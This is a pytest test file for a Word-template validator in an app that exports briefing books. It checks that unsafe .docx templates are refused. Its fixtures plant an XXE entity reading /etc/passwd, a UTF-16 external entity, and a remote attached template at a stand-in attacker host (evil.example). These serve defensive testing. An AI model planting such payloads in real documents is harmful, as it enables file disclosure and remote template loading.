"""A user's template: refused with a clear message unless it is a safe .docx."""

import io
import zipfile

import pytest
from docx import Document

from bescapp.export.template import TemplateProblem, check_docx_bytes, validate_template


def letterhead(path, text="MINISTRY LETTERHEAD"):
    doc = Document()
    doc.sections[0].header.paragraphs[0].text = text
    doc.add_paragraph("body to be dropped")
    doc.save(path)
    return path


def rewrite(source, target, part, transform):
    """Copy a .docx, passing one part's bytes through ``transform``."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            data = old.read(info)
            new.writestr(info, transform(data) if info.filename == part else data)
    return target


def test_a_valid_template_passes(tmp_path):
    path = letterhead(tmp_path / "letterhead.docx")
    assert validate_template(path) == path


def test_a_missing_file_says_so(tmp_path):
    with pytest.raises(TemplateProblem) as e:
        validate_template(tmp_path / "nowhere.docx")
    assert e.value.code == "missing"
    assert "nowhere.docx does not exist" in str(e.value)


def test_a_text_file_is_not_a_word_document(tmp_path):
    path = tmp_path / "notes.docx"
    path.write_text("just some notes")
    with pytest.raises(TemplateProblem) as e:
        validate_template(path)
    assert e.value.code == "not_docx"
    assert "notes.docx is not a Word document" in str(e.value)


def test_a_truncated_zip_is_damaged(tmp_path):
    good = letterhead(tmp_path / "good.docx").read_bytes()
    path = tmp_path / "cut.docx"
    path.write_bytes(good[: len(good) // 2])
    with pytest.raises(TemplateProblem) as e:
        validate_template(path)
    assert e.value.code in {"damaged", "not_docx"}


def test_a_zip_without_document_xml_is_refused(tmp_path):
    path = tmp_path / "photos.docx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("picture.txt", "x")
    with pytest.raises(TemplateProblem) as e:
        validate_template(path)
    assert e.value.code == "missing_part"
    assert "word/document.xml" in str(e.value)


XXE = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
       b'<!DOCTYPE w:document [<!ENTITY leak SYSTEM "file:///etc/passwd">]>\n')


def test_a_document_fetching_external_entities_is_refused(tmp_path):
    source = letterhead(tmp_path / "good.docx")

    def plant(data):
        body = data.split(b"?>", 1)[1]
        return XXE + body.replace(b"body to be dropped", b"&leak;")

    path = rewrite(source, tmp_path / "xxe.docx", "word/document.xml", plant)
    with pytest.raises(TemplateProblem) as e:
        validate_template(path)
    assert e.value.code == "entities"
    assert "word/document.xml" in str(e.value)
    assert "root:" not in str(e.value)


def test_entities_in_a_utf16_part_are_refused(tmp_path):
    source = letterhead(tmp_path / "good.docx")
    sneaky = ('<?xml version="1.0" encoding="UTF-16"?>'
              '<!DOCTYPE x [<!ENTITY e SYSTEM "http://example.com/">]><x/>').encode("utf-16")
    path = rewrite(source, tmp_path / "u16.docx", "word/settings.xml", lambda _d: sneaky)
    with pytest.raises(TemplateProblem) as e:
        validate_template(path)
    assert e.value.code == "entities"


def test_a_remote_attached_template_is_refused(tmp_path):
    source = letterhead(tmp_path / "good.docx")
    relation = (b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
                b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
                b'TargetMode="External"/></Relationships>')

    def plant(data):
        return data.replace(b"</Relationships>", relation)

    with zipfile.ZipFile(source) as z:
        rels = [n for n in z.namelist() if n.endswith(".rels")]
    path = rewrite(source, tmp_path / "remote.docx", rels[-1], plant)
    with pytest.raises(TemplateProblem) as e:
        validate_template(path)
    assert e.value.code == "external"
    assert "http://evil.example/t.dotm" in str(e.value)


def test_a_plain_hyperlink_in_a_letterhead_is_fine(tmp_path):
    source = letterhead(tmp_path / "good.docx")
    relation = (b'<Relationship Id="rIdH" Type="http://schemas.openxmlformats.org/officeDocument/'
                b'2006/relationships/hyperlink" Target="https://www.gob.mx/" '
                b'TargetMode="External"/></Relationships>')
    path = rewrite(source, tmp_path / "link.docx", "word/_rels/document.xml.rels",
                   lambda d: d.replace(b"</Relationships>", relation))
    assert validate_template(path) == path


def test_an_oversized_file_is_refused_before_reading(tmp_path, monkeypatch):
    import bescapp.export.template as template

    monkeypatch.setattr(template, "MAX_FILE", 100)
    path = letterhead(tmp_path / "big.docx")
    with pytest.raises(TemplateProblem) as e:
        validate_template(path)
    assert e.value.code == "too_large"


def test_the_same_check_serves_background_papers():
    buffer = io.BytesIO()
    Document().save(buffer)
    check_docx_bytes(buffer.getvalue(), "paper.docx")
    with pytest.raises(TemplateProblem):
        check_docx_bytes(b"PK\x03\x04 not really", "paper.docx")


def test_the_book_takes_the_templates_letterhead_styles_and_page(demo_db, tmp_path):
    from docx.shared import Inches, RGBColor

    from bescapp.export.briefing_book import write_briefing_book

    source = Document()
    section = source.sections[0]
    section.header.paragraphs[0].text = "SECRETARÍA — LETTERHEAD LINE"
    section.footer.paragraphs[0].text = "Av. Juárez 20, Ciudad de México"
    section.left_margin = Inches(1.5)
    source.styles["Heading 1"].font.color.rgb = RGBColor(0x80, 0x00, 0x20)
    source.save(tmp_path / "letterhead.docx")
    db, meeting_id = demo_db
    with db.session() as session:
        path = write_briefing_book(session, meeting_id, "en", tmp_path / "book.docx",
                                   template=tmp_path / "letterhead.docx")
    doc = Document(str(path))
    first = doc.sections[0]
    header = [p.text for p in first.header.paragraphs]
    assert "SECRETARÍA — LETTERHEAD LINE" in header
    assert "SENSITIVE BUT UNCLASSIFIED" in header  # the marking is added, not written over it
    assert "Av. Juárez 20, Ciudad de México" in [p.text for p in first.footer.paragraphs]
    assert first.left_margin == Inches(1.5)
    assert doc.styles["Heading 1"].font.color.rgb == RGBColor(0x80, 0x00, 0x20)
    assert "Marking" in [s.name for s in doc.styles]  # lent from bescapp's own template
    for section in doc.sections:
        assert "SENSITIVE BUT UNCLASSIFIED" in [p.text for p in section.header.paragraphs]


def test_the_book_refuses_an_unsafe_template_and_writes_nothing(demo_db, tmp_path):
    from bescapp.export.briefing_book import write_briefing_book
    from bescapp.export.kit import ExportRefused

    source = letterhead(tmp_path / "good.docx")
    bad = rewrite(source, tmp_path / "xxe.docx", "word/document.xml",
                  lambda d: XXE + d.split(b"?>", 1)[1])
    db, meeting_id = demo_db
    with db.session() as session, pytest.raises(ExportRefused) as e:
        write_briefing_book(session, meeting_id, "en", tmp_path / "book.docx", template=bad)
    assert isinstance(e.value, TemplateProblem)
    assert not (tmp_path / "book.docx").exists()
